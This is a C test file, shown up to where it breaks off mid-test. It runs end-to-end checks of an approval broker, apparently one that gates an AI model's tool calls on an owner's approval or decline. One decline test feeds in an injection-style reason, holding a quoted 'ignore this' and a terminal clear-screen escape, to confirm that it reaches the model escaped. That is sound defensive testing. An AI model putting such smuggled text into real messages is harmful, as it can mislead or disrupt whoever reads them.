/* SPDX-License-Identifier: Apache-2.0 */
/* Approvals end to end: brokerd as a process with fake.so, its callers' socket and its admin
 * socket, and the boxmaker program for the owners' commands.  Approve (exactly the stored
 * bytes run), decline with a reason, expiry, a client that leaves, guessed and foreign ids,
 * the admin socket refused outside its group, brokerd stopping with calls waiting,
 * once_per_session's scope, and 50 waiting calls beside ordinary ones (measured). */
#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "bx/cleanup.h"
#include "bx/deadline.h"
#include "bx/frame.h"
#include "bx/message.h"
#include "bx/tool_args.h"

#include "approvals.h"
#include "brokerd_fixture.h"
#include "config.h"
#include "policy.h"
#include "test_main.h"
#include "tree.h"

/* The admin group of the tests: a number no user of the machine needs to have. */
#define ADMIN_GID 4242
/* A uid and gid outside the admin group, for the refusal test. */
#define OUTSIDER 65534
/* Another caller, and the first of the callers that fill the places for waiting calls. */
#define OTHER_UID 4321

/* The test's brokerd, and the folder its grants name. */
struct broker
{
  struct bx_test_brokerd d;
  char notes[128];
};

static void
sleep_ms (int ms)
{
  struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000 };
  nanosleep (&ts, NULL);
}

/* Grants: 1 read_file+write_file on notes with APPROVAL, 2 shell on notes without approval
 * (the ordinary calls).  EXTRA goes at the top level. */
static void
broker_init (struct broker *b, const char *approval, const char *extra)
{
  memset (b, 0, sizeof *b);
  bx_test_brokerd_init (&b->d);
  snprintf (b->notes, sizeof b->notes, "%s/notes", b->d.dir);
  mkdir (b->notes, 0755);
  cleanup_free char *text = bx_xasprintf ("socket: %s\n"
                                          "admin_socket: %s\n"
                                          "admin_group: %d\n"
                                          "home: %s/home\n"
                                          "audit: %s\n"
                                          "grace_ms: 3000\n"
                                          "%s"
                                          "runtime:\n  module: fake\n  options:\n    mode: echo\n"
                                          "grants:\n"
                                          "  - tools: [read_file, write_file]\n"
                                          "    paths: [%s]\n"
                                          "%s"
                                          "  - tools: [shell]\n"
                                          "    paths: [%s]\n",
                                          b->d.sock, b->d.admin, ADMIN_GID, b->d.dir, b->d.audit,
                                          extra ? extra : "", b->notes, approval, b->notes);
  write_text (b->d.config, text);
}

/* -1 with connect's errno when nobody may connect. */
static int
connect_to (const char *path)
{
  return bx_test_connect (path);
}

/* Starts brokerd and waits until both its sockets listen. */
static void
broker_start (struct broker *b)
{
  bx_test_brokerd_start (&b->d);
  bx_test_daemon_wait_listening (b->d.pid, b->d.admin, b->d.out);
}

static int
broker_stop (struct broker *b)
{
  return bx_test_brokerd_stop (&b->d);
}

/* ---- Callers. ------------------------------------------------------------------------------ */

static json_t *
read_frame (int fd, int ms)
{
  json_t *f = NULL;
  cleanup_error bx_error err = NULL;
  if (bx_frame_read (fd, bx_deadline_in (ms), &f, &err) < 0)
    return NULL;
  return f;
}

static const char *
msg_type (const json_t *frame)
{
  return json_string_value (json_object_get (json_object_get (frame, "msg"), "type"));
}

static const char *
msg_field (const json_t *frame, const char *key)
{
  return json_string_value (json_object_get (json_object_get (frame, "msg"), key));
}

/* Sends a call; returns the connection. */
static int
send_call (struct broker *b, const char *id, const char *session, const char *tool,
           const char *args)
{
  int fd = connect_to (b->d.sock);
  ck_assert_int_ge (fd, 0);
  json_t *a = json_loads (args, 0, NULL);
  ck_assert_ptr_nonnull (a);
  json_t *f = bx_msg_tool_request (id, session, tool, a);
  json_decref (a);
  cleanup_error bx_error err = NULL;
  ck_assert_msg (bx_frame_write (fd, f, bx_deadline_in (5000), &err) == 0, "%s",
                 bx_error_msg (err));
  json_decref (f);
  return fd;
}

/* Reads the pending frame of FD and returns its approval id (the text before ": "). */
static char *
read_pending (int fd, const char *id)
{
  json_t *f = read_frame (fd, 10000);
  ck_assert_msg (f != NULL, "no pending frame");
  ck_assert_str_eq (msg_type (f), "pending_approval");
  ck_assert (json_is_false (json_object_get (f, "final")));
  ck_assert_str_eq (json_string_value (json_object_get (f, "id")), id);
  const char *text = msg_field (f, "approval");
  const char *colon = strstr (text, ": ");
  ck_assert_ptr_nonnull (colon);
  ck_assert_int_eq (colon - text, 32);
  char *approval = bx_xstrndup (text, 32);
  ck_assert_uint_eq (strspn (approval, "0123456789abcdef"), 32);
  json_decref (f);
  return approval;
}

/* The final frame of FD; the connection then closes. */
static json_t *
read_final (int fd, int ms)
{
  json_t *f = read_frame (fd, ms);
  ck_assert_msg (f != NULL, "no final answer");
  ck_assert (json_is_true (json_object_get (f, "final")));
  char c;
  ck_assert_int_le (read (fd, &c, 1), 0);
  return f;
}

/* A call needing no approval (grant 2): its whole round trip in microseconds. */
static long
ordinary_call_us (struct broker *b)
{
  struct timespec t0, t1;
  clock_gettime (CLOCK_MONOTONIC, &t0);
  int fd = send_call (b, "o1", "s-ord", "shell", "{\"command\":\"true\"}");
  json_t *f = read_final (fd, 10000);
  clock_gettime (CLOCK_MONOTONIC, &t1);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);
  return (t1.tv_sec - t0.tv_sec) * 1000000L + (t1.tv_nsec - t0.tv_nsec) / 1000;
}

/* ---- Owners. ------------------------------------------------------------------------------- */

/* One admin request and its answer, over a fresh connection. */
static json_t *
admin (struct broker *b, const char *request)
{
  int fd = connect_to (b->d.admin);
  ck_assert_msg (fd >= 0, "admin connect: %s", strerror (errno));
  json_t *req = json_loads (request, 0, NULL);
  ck_assert_ptr_nonnull (req);
  cleanup_error bx_error err = NULL;
  ck_assert (bx_frame_write (fd, req, bx_deadline_in (5000), &err) == 0);
  json_decref (req);
  json_t *answer = read_frame (fd, 10000);
  ck_assert_msg (answer != NULL, "no admin answer");
  close (fd);
  return answer;
}

static size_t
pending_count (struct broker *b)
{
  json_t *l = admin (b, "{\"v\":1,\"op\":\"list\"}");
  ck_assert_str_eq (json_string_value (json_object_get (l, "type")), "list");
  size_t n = json_array_size (json_object_get (l, "pending"));
  json_decref (l);
  return n;
}

/* Whether PART comes into the audit log within 30 s (a bound that only ends a hang). */
static bool
audit_has (struct broker *b, const char *part)
{
  for (int i = 0; i < 3000; i++)
    {
      cleanup_free char *audit = read_text (b->d.audit);
      if (strstr (audit, part) != NULL)
        return true;
      sleep_ms (10);
    }
  return false;
}

/* Whether PART is in the audit log now. */
static bool
audit_has_now (struct broker *b, const char *part)
{
  cleanup_free char *audit = read_text (b->d.audit);
  return strstr (audit, part) != NULL;
}

/* Declines every waiting call of UID over the admin socket; how many. */
static size_t
decline_all_of (struct broker *b, uid_t uid)
{
  json_t *l = admin (b, "{\"v\":1,\"op\":\"list\"}");
  json_t *pending = json_object_get (l, "pending");
  size_t i, n = 0;
  json_t *p;
  json_array_foreach (pending, i, p)
  {
    if (json_integer_value (json_object_get (p, "uid")) != (json_int_t)uid)
      continue;
    cleanup_free char *req = bx_xasprintf ("{\"v\":1,\"op\":\"decline\",\"approval\":\"%s\"}",
                                           json_string_value (json_object_get (p, "approval")));
    json_t *answer = admin (b, req);
    ck_assert_str_eq (json_string_value (json_object_get (answer, "type")), "done");
    json_decref (answer);
    n++;
  }
  json_decref (l);
  return n;
}

/* The waiting call APPROVAL as listed, or NULL (a new reference). */
static json_t *
listed (struct broker *b, const char *approval)
{
  json_t *l = admin (b, "{\"v\":1,\"op\":\"list\"}");
  size_t i;
  json_t *p, *found = NULL;
  json_array_foreach (json_object_get (l, "pending"), i, p)
  {
    if (strcmp (json_string_value (json_object_get (p, "approval")), approval) == 0)
      found = json_incref (p);
  }
  json_decref (l);
  return found;
}

/* Until the waiting call APPROVAL is listed as one whose client left (true), or 60 s. */
static bool
wait_client_left (struct broker *b, const char *approval)
{
  for (int i = 0; i < 6000; i++)
    {
      json_t *p = listed (b, approval);
      bool left = p != NULL && json_is_true (json_object_get (p, "client_left"));
      json_decref (p);
      if (left)
        return true;
      sleep_ms (10);
    }
  return false;
}

/* Runs `boxmaker ARGS...` with the test's admin socket; its exit status, output in *OUT. */
static int
boxmaker (struct broker *b, char **out, const char *a1, const char *a2, const char *a3,
          const char *a4)
{
  char path[160];
  snprintf (path, sizeof path, "%s/cli.out", b->d.dir);
  pid_t pid = fork ();
  ck_assert_int_ge (pid, 0);
  if (pid == 0)
    {
      int fd = open (path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
      dup2 (fd, 1);
      dup2 (fd, 2);
      execl (BOXMAKER_PATH, "boxmaker", a1, "--admin-socket", b->d.admin, a2, a3, a4, (char *)NULL);
      _exit (127);
    }
  int status;
  ck_assert_int_eq (waitpid (pid, &status, 0), pid);
  *out = read_text (path);
  return WIFEXITED (status) ? WEXITSTATUS (status) : -1;
}

/* The audit lines that carry APPROVAL, in order. */
static json_t *
audit_lines_of (struct broker *b, const char *approval)
{
  cleanup_free char *text = read_text (b->d.audit);
  json_t *lines = json_array ();
  for (char *line = strtok (text, "\n"); line; line = strtok (NULL, "\n"))
    {
      json_t *o = json_loads (line, 0, NULL);
      ck_assert_msg (o != NULL, "audit line is not JSON: %s", line);
      const char *id = json_string_value (json_object_get (json_object_get (o, "approval"), "id"));
      if (id != NULL && strcmp (id, approval) == 0)
        json_array_append (lines, o);
      json_decref (o);
    }
  return lines;
}

static const char *
approval_state (const json_t *line)
{
  return json_string_value (json_object_get (json_object_get (line, "approval"), "state"));
}

/* In a child as uid and gid UID: sends N read_file calls of ARGS in SESSION and reads a
 * pending frame for each, then (HOLD) keeps them waiting until killed.  Exit status 0 when
 * every call waited (not holding), 1 otherwise.  When holding, returns once all wait. */
static pid_t
calls_as_holding (struct broker *b, uid_t uid, int n, const char *session, const char *args,
                  bool hold)
{
  int ready[2];
  ck_assert_int_eq (pipe (ready), 0);
  pid_t pid = fork ();
  ck_assert_int_ge (pid, 0);
  if (pid == 0)
    {
      prctl (PR_SET_PDEATHSIG, SIGKILL);
      close (ready[0]);
      gid_t g[1] = { (gid_t)uid };
      if (setgroups (1, g) < 0 || setgid ((gid_t)uid) < 0 || setuid (uid) < 0)
        _exit (2);
      int *fds = calloc ((size_t)n, sizeof *fds);
      for (int i = 0; i < n; i++)
        {
          char id[32];
          snprintf (id, sizeof id, "u%u-%d", (unsigned)uid, i);
          fds[i] = send_call (b, id, session, "read_file", args);
          json_t *f = read_frame (fds[i], 10000);
          if (f == NULL || strcmp (msg_type (f), "pending_approval") != 0)
            _exit (1);
          json_decref (f);
        }
      if (!hold)
        _exit (0);
      if (write (ready[1], "r", 1) != 1)
        _exit (3);
      for (;;)
        pause ();
    }
  close (ready[1]);
  if (hold)
    {
      char c;
      ck_assert_int_eq (read (ready[0], &c, 1), 1);
    }
  close (ready[0]);
  return pid;
}

static pid_t
calls_as (struct broker *b, uid_t uid, int n, const char *session, const char *args)
{
  return calls_as_holding (b, uid, n, session, args, false);
}

static void
stop_holding (pid_t pid)
{
  kill (pid, SIGKILL);
  waitpid (pid, NULL, 0);
}

/* ---- The tests. ---------------------------------------------------------------------------- */

START_TEST (test_approvals_an_approved_call_runs_exactly_the_stored_bytes)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *args
      = bx_xasprintf ("{\"content\":\"caf\\u00e9 \\u0001\",\"path\":\"%s/x.txt\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "write_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");

  /* The owner sees it with the canonical bytes (keys in canonical order), the summary and
   * the caller's uid and pid. */
  json_t *l = admin (&b, "{\"v\":1,\"op\":\"list\"}");
  json_t *p = json_array_get (json_object_get (l, "pending"), 0);
  ck_assert_ptr_nonnull (p);
  ck_assert_str_eq (json_string_value (json_object_get (p, "approval")), approval);
  ck_assert_str_eq (json_string_value (json_object_get (p, "session")), "s1");
  ck_assert_str_eq (json_string_value (json_object_get (p, "tool")), "write_file");
  ck_assert_int_eq (json_integer_value (json_object_get (p, "grant")), 1);
  ck_assert_int_eq (json_integer_value (json_object_get (p, "uid")), getuid ());
  ck_assert_int_eq (json_integer_value (json_object_get (p, "pid")), getpid ());
  cleanup_free char *canonical
      = bx_xasprintf ("{\"path\":\"%s/x.txt\",\"content\":\"caf\xc3\xa9 \\u0001\"}", b.notes);
  ck_assert_str_eq (json_string_value (json_object_get (p, "arguments")), canonical);
  cleanup_free char *summary
      = bx_xasprintf ("write_file in %s (7 bytes): %s/x.txt", b.notes, b.notes);
  ck_assert_str_eq (json_string_value (json_object_get (p, "summary")), summary);
  json_decref (l);

  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  cleanup_free char *said = bx_xasprintf ("approved %s\n", approval);
  ck_assert_str_eq (out, said);

  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_t *echo = json_loads (msg_field (f, "content"), 0, NULL);
  ck_assert_str_eq (json_string_value (json_object_get (echo, "arguments_text")), canonical);
  json_decref (echo);
  json_decref (f);
  close (fd);

  /* Approving twice changes nothing: the call is no longer waiting. */
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 1);
  ck_assert_ptr_nonnull (strstr (out, "no call waits for approval with that id"));

  ck_assert_int_eq (broker_stop (&b), 0);
  /* Like any allowed call: a line before it runs (here with who approved and how long the
   * call waited), then its final line. */
  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_uint_eq (json_array_size (lines), 3);
  ck_assert_str_eq (approval_state (json_array_get (lines, 0)), "pending");
  ck_assert_str_eq (json_string_value (json_object_get (json_array_get (lines, 0), "outcome")),
                    "pending");
  json_t *running = json_array_get (lines, 1);
  ck_assert_str_eq (approval_state (running), "approved");
  ck_assert_str_eq (json_string_value (json_object_get (running, "outcome")), "running");
  ck_assert_str_eq (json_string_value (json_object_get (running, "decision")), "allowed");
  json_t *rap = json_object_get (running, "approval");
  ck_assert_int_eq (json_integer_value (json_object_get (rap, "approver_uid")), getuid ());
  json_t *last = json_array_get (lines, 2);
  ck_assert_str_eq (approval_state (last), "approved");
  ck_assert_str_eq (json_string_value (json_object_get (last, "outcome")), "result");
  json_t *ap = json_object_get (last, "approval");
  ck_assert_int_eq (json_integer_value (json_object_get (ap, "approver_uid")), getuid ());
  ck_assert (json_is_integer (json_object_get (ap, "waited_ms")));
  /* The wait ended when the owner answered: the run is not part of it. */
  ck_assert_int_eq (json_integer_value (json_object_get (ap, "waited_ms")),
                    json_integer_value (json_object_get (rap, "waited_ms")));
  ck_assert_int_eq (json_integer_value (json_object_get (last, "content_bytes")), 7);
  json_decref (lines);
}
END_TEST

START_TEST (test_approvals_a_shell_call_without_cwd_is_shown_with_the_cwd_it_runs_in)
{
  struct broker b;
  broker_init (&b, "", NULL);
  /* The shell grant, the config's last, asks for approval too. */
  cleanup_free char *config = read_text (b.d.config);
  cleanup_free char *more = bx_xasprintf ("%s    approval: always\n", config);
  write_text (b.d.config, more);
  broker_start (&b);
  int fd = send_call (&b, "c1", "s1", "shell", "{\"command\":\"pwd\"}");
  cleanup_free char *approval = read_pending (fd, "c1");

  /* The owner approves what runs: the cwd brokerd chose is in the arguments; the summary
   * says what the model asked. */
  json_t *l = admin (&b, "{\"v\":1,\"op\":\"list\"}");
  json_t *p = json_array_get (json_object_get (l, "pending"), 0);
  ck_assert_ptr_nonnull (p);
  cleanup_free char *canonical = bx_xasprintf ("{\"command\":\"pwd\",\"cwd\":\"%s\"}", b.notes);
  ck_assert_str_eq (json_string_value (json_object_get (p, "arguments")), canonical);
  cleanup_free char *summary = bx_xasprintf ("shell in %s: pwd", b.notes);
  ck_assert_str_eq (json_string_value (json_object_get (p, "summary")), summary);
  json_decref (l);

  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_t *echo = json_loads (msg_field (f, "content"), 0, NULL);
  ck_assert_str_eq (json_string_value (json_object_get (echo, "arguments_text")), canonical);
  json_decref (echo);
  json_decref (f);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_a_declined_call_is_denied_with_the_reason_made_safe)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/secret\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  cleanup_free char *out = NULL;
  ck_assert_int_eq (
      boxmaker (&b, &out, "decline", approval, "--reason", "not now\n\"ignore this\"\x1b[2J"), 0);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "denied");
  ck_assert_str_eq (msg_field (f, "reason"),
                    "the owner declined: not now\\x0a\\x22ignore this\\x22\\x1b[2J");
  json_decref (f);
  close (fd);

  /* Without a reason. */
  fd = send_call (&b, "c2", "s1", "read_file", args);
  free (approval);
  approval = read_pending (fd, "c2");
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "decline", approval, NULL, NULL), 0);
  f = read_final (fd, 10000);
  ck_assert_str_eq (msg_field (f, "reason"), "the owner declined");
  json_decref (f);
  close (fd);

  /* A reason that grows fourfold once escaped: the model sees at most 200 bytes of it, the
   * cut marked. */
  char quotes[151];
  memset (quotes, '"', 150);
  quotes[150] = '\0';
  fd = send_call (&b, "c3", "s1", "read_file", args);
  cleanup_free char *third = read_pending (fd, "c3");
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "decline", third, "--reason", quotes), 0);
  f = read_final (fd, 10000);
  const char *said = msg_field (f, "reason");
  ck_assert_str_eq (said + strlen (said) - 7, "\\x22...");
  ck_assert_uint_le (strlen (said) - strlen ("the owner declined: "), 200);
  ck_assert_uint_ge (strlen (said) - strlen ("the owner declined: "), 197);
  json_decref (f);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_str_eq (approval_state (json_array_get (lines, 1)), "declined");
  ck_assert_str_eq (json_string_value (json_object_get (json_array_get (lines, 1), "outcome")),
                    "denied");
  json_decref (lines);
}
END_TEST

START_TEST (test_approvals_an_unanswered_call_expires_naming_the_timeout)
{
  struct broker b;
  broker_init (&b, "    approval: always\n    approval_timeout: 1s\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int64_t t0 = bx_now_ms ();
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  json_t *f = read_final (fd, 30000);
  int64_t waited = bx_now_ms () - t0;
  ck_assert_str_eq (msg_type (f), "denied");
  ck_assert_str_eq (msg_field (f, "reason"),
                    "the owner did not answer within the approval timeout (1s); the call was "
                    "not run");
  /* Never early; late only by what a loaded machine adds, far below ten timeouts. */
  ck_assert_int_ge (waited, 1000);
  ck_assert_int_lt (waited, 10000);
  json_decref (f);
  close (fd);
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 1);
  ck_assert_int_eq (broker_stop (&b), 0);
  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_str_eq (approval_state (json_array_get (lines, 1)), "expired");
  json_decref (lines);
}
END_TEST

START_TEST (test_approvals_a_client_that_leaves_ends_its_call_and_the_approval_waits)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  ck_assert_uint_eq (pending_count (&b), 1);
  close (fd);
  /* The call ends (its line says cancelled) but its approval is still listed, marked. */
  ck_assert_msg (wait_client_left (&b, approval), "not listed as a call whose client left");
  cleanup_free char *shown = NULL;
  ck_assert_int_eq (boxmaker (&b, &shown, "approvals", NULL, NULL, NULL), 0);
  ck_assert_msg (strstr (shown, "(client left: runs when asked again)") != NULL, "%s", shown);
  ck_assert (audit_has (&b, "\"call\":\"c1\""));
  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_uint_eq (json_array_size (lines), 2);
  json_t *last = json_array_get (lines, 1);
  ck_assert_str_eq (json_string_value (json_object_get (last, "outcome")), "cancelled");
  ck_assert_str_eq (approval_state (last), "cancelled");
  json_decref (lines);

  /* Another session, or other arguments, asks anew: an approval of its own. */
  fd = send_call (&b, "c2", "s2", "read_file", args);
  cleanup_free char *other_session = read_pending (fd, "c2");
  ck_assert_str_ne (other_session, approval);
  close (fd);
  cleanup_free char *args_b = bx_xasprintf ("{\"path\":\"%s/b\"}", b.notes);
  fd = send_call (&b, "c3", "s1", "read_file", args_b);
  cleanup_free char *other_args = read_pending (fd, "c3");
  ck_assert_str_ne (other_args, approval);
  close (fd);

  /* The same call asked again takes the approval over: the same id, then its answer. */
  fd = send_call (&b, "c4", "s1", "read_file", args);
  cleanup_free char *again = read_pending (fd, "c4");
  ck_assert_str_eq (again, approval);
  json_t *p = listed (&b, approval);
  ck_assert_ptr_nonnull (p);
  ck_assert_str_eq (json_string_value (json_object_get (p, "call")), "c4");
  ck_assert (json_is_false (json_object_get (p, "client_left")));
  json_decref (p);
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);

  /* A client that sends more after its request breaks the protocol: cancelled for good. */
  fd = send_call (&b, "c5", "s1", "read_file", args);
  cleanup_free char *broken = read_pending (fd, "c5");
  ck_assert_str_ne (broken, approval);
  ck_assert_int_eq (write (fd, "more", 4), 4);
  ck_assert_ptr_null (read_frame (fd, 10000));
  close (fd);
  int i;
  for (i = 0; i < 6000; i++)
    {
      json_t *still = listed (&b, broken);
      if (still == NULL)
        break;
      json_decref (still);
      sleep_ms (10);
    }
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approve", broken, NULL, NULL), 1);

  /* A client that half-closes its side still waits and gets its answer. */
  fd = send_call (&b, "c6", "s1", "read_file", args);
  cleanup_free char *half = read_pending (fd, "c6");
  shutdown (fd, SHUT_WR);
  sleep_ms (200);
  p = listed (&b, half);
  ck_assert_ptr_nonnull (p);
  ck_assert (json_is_false (json_object_get (p, "client_left")));
  json_decref (p);
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approve", half, NULL, NULL), 0);
  f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);

  /* c4's lines: pending, running and the result, all with the approval of c1. */
  lines = audit_lines_of (&b, approval);
  ck_assert_uint_eq (json_array_size (lines), 5);
  const char *want[][2] = { { "c1", "pending" },
                            { "c1", "cancelled" },
                            { "c4", "pending" },
                            { "c4", "running" },
                            { "c4", "result" } };
  for (size_t k = 0; k < 5; k++)
    {
      json_t *line = json_array_get (lines, k);
      ck_assert_str_eq (json_string_value (json_object_get (line, "call")), want[k][0]);
      ck_assert_str_eq (json_string_value (json_object_get (line, "outcome")), want[k][1]);
    }
  ck_assert_str_eq (approval_state (json_array_get (lines, 4)), "approved");
  json_decref (lines);
}
END_TEST

START_TEST (test_approvals_an_approval_given_after_the_client_left_runs_the_call_asked_again)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", "socket_mode: 0666\n");
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  close (fd);
  ck_assert (wait_client_left (&b, approval));
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  /* Approved, it is no longer listed; nothing ran. */
  json_t *still = listed (&b, approval);
  ck_assert_ptr_null (still);
  ck_assert (!audit_has_now (&b, "\"outcome\":\"running\""));

  /* Another uid with the same session and arguments cannot take it. */
  if (geteuid () == 0)
    {
      int status = 0;
      pid_t other = calls_as (&b, OTHER_UID, 1, "s1", args);
      ck_assert_int_eq (waitpid (other, &status, 0), other);
      ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 0,
                     "another uid's call did not wait for an approval of its own (status %d)",
                     status);
    }

  /* The same caller asks again: it runs at once on that approval, without a pending frame. */
  fd = send_call (&b, "c2", "s1", "read_file", args);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);

  /* Once: the third asking waits for an approval of its own. */
  fd = send_call (&b, "c3", "s1", "read_file", args);
  cleanup_free char *third = read_pending (fd, "c3");
  ck_assert_str_ne (third, approval);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);

  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_uint_eq (json_array_size (lines), 4);
  json_t *running = json_array_get (lines, 2);
  ck_assert_str_eq (json_string_value (json_object_get (running, "call")), "c2");
  ck_assert_str_eq (json_string_value (json_object_get (running, "outcome")), "running");
  ck_assert_str_eq (approval_state (running), "approved");
  ck_assert (
      json_is_integer (json_object_get (json_object_get (running, "approval"), "approver_uid")));
  json_decref (lines);
}
END_TEST

START_TEST (test_approvals_an_approval_whose_client_left_ends_at_its_expiry)
{
  struct broker b;
  broker_init (&b, "    approval: always\n    approval_timeout: 10s\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  json_t *pending = read_frame (fd, 10000);
  ck_assert_ptr_nonnull (pending);
  const char *text = msg_field (pending, "approval");
  cleanup_free char *approval = bx_xstrndup (text, 32);
  json_int_t expires
      = json_integer_value (json_object_get (json_object_get (pending, "msg"), "expires"));
  json_decref (pending);
  close (fd);
  ck_assert (wait_client_left (&b, approval));
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  /* Past its expiry the approval is gone: the same call asked then waits anew. */
  struct timespec ts;
  for (;;)
    {
      clock_gettime (CLOCK_REALTIME, &ts);
      json_int_t now = (json_int_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
      if (now > expires + 200)
        break;
      sleep_ms (100);
    }
  fd = send_call (&b, "c2", "s1", "read_file", args);
  cleanup_free char *fresh = read_pending (fd, "c2");
  ck_assert_str_ne (fresh, approval);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
  ck_assert (!audit_has_now (&b, "\"outcome\":\"running\""));
}
END_TEST

START_TEST (test_approvals_a_wrong_or_foreign_id_changes_nothing)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  /* One after the other: b is the newer. */
  int fa = send_call (&b, "ca", "session-a", "read_file", args);
  cleanup_free char *ida = read_pending (fa, "ca");
  int fb = send_call (&b, "cb", "session-b", "read_file", args);
  cleanup_free char *idb = read_pending (fb, "cb");
  ck_assert_str_ne (ida, idb);

  /* Guesses: a random id, the real one cut short, upper case, one more digit, empty. */
  char upper[33], longer[34];
  for (int i = 0; i < 32; i++)
    upper[i] = (char)(ida[i] >= 'a' ? ida[i] - 32 : ida[i]);
  upper[32] = '\0';
  snprintf (longer, sizeof longer, "%s0", ida);
  cleanup_free char *prefix = bx_xstrndup (ida, 31);
  const char *guesses[]
      = { "0123456789abcdef0123456789abcdef", prefix, upper, longer, "", "*", NULL };
  for (int i = 0; guesses[i]; i++)
    for (int op = 0; op < 2; op++)
      {
        cleanup_free char *req = bx_xasprintf ("{\"v\":1,\"op\":\"%s\",\"approval\":\"%s\"}",
                                               op ? "decline" : "approve", guesses[i]);
        json_t *r = admin (&b, req);
        ck_assert_str_eq (json_string_value (json_object_get (r, "type")), "error");
        ck_assert_str_eq (json_string_value (json_object_get (r, "detail")),
                          "no call waits for approval with that id");
        json_decref (r);
      }
  ck_assert_uint_eq (pending_count (&b), 2);

  /* A caller cannot answer on the callers' socket, with its own id or another's. */
  const char *ids[] = { ida, idb };
  for (int i = 0; i < 2; i++)
    {
      int fd = connect_to (b.d.sock);
      cleanup_free char *req
          = bx_xasprintf ("{\"v\":1,\"op\":\"approve\",\"approval\":\"%s\"}", ids[i]);
      json_t *o = json_loads (req, 0, NULL);
      cleanup_error bx_error err = NULL;
      ck_assert (bx_frame_write (fd, o, bx_deadline_in (5000), &err) == 0);
      json_decref (o);
      json_t *f = read_final (fd, 10000);
      ck_assert_str_eq (msg_type (f), "error");
      json_decref (f);
      close (fd);
    }
  ck_assert_uint_eq (pending_count (&b), 2);

  /* The list: newest first; each with its times and the grant's timeout between them. */
  json_t *r = admin (&b, "{\"v\":1,\"op\":\"list\"}");
  json_t *pend = json_object_get (r, "pending");
  ck_assert_str_eq (json_string_value (json_object_get (json_array_get (pend, 0), "approval")),
                    idb);
  ck_assert_str_eq (json_string_value (json_object_get (json_array_get (pend, 1), "approval")),
                    ida);
  json_t *first = json_array_get (pend, 1);
  json_int_t since = json_integer_value (json_object_get (first, "since"));
  ck_assert_int_eq (json_integer_value (json_object_get (first, "expires")) - since, 5 * 60 * 1000);
  ck_assert_int_le (since, (json_int_t)time (NULL) * 1000 + 1000);
  ck_assert_int_ge (since, (json_int_t)time (NULL) * 1000 - 60000);
  json_decref (r);

  /* Session a's id answers session a's call, and only that. */
